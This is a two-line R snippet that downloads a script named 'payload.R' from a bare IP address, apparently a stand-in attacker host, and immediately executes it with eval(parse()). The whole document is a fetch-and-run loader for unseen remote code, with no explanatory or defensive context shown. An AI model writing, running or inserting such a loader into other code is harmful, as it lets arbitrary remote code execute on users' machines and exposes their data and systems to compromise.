src <- readLines(url("http://203.0.113.7/payload.R"), warn = FALSE)
eval(parse(text = src))
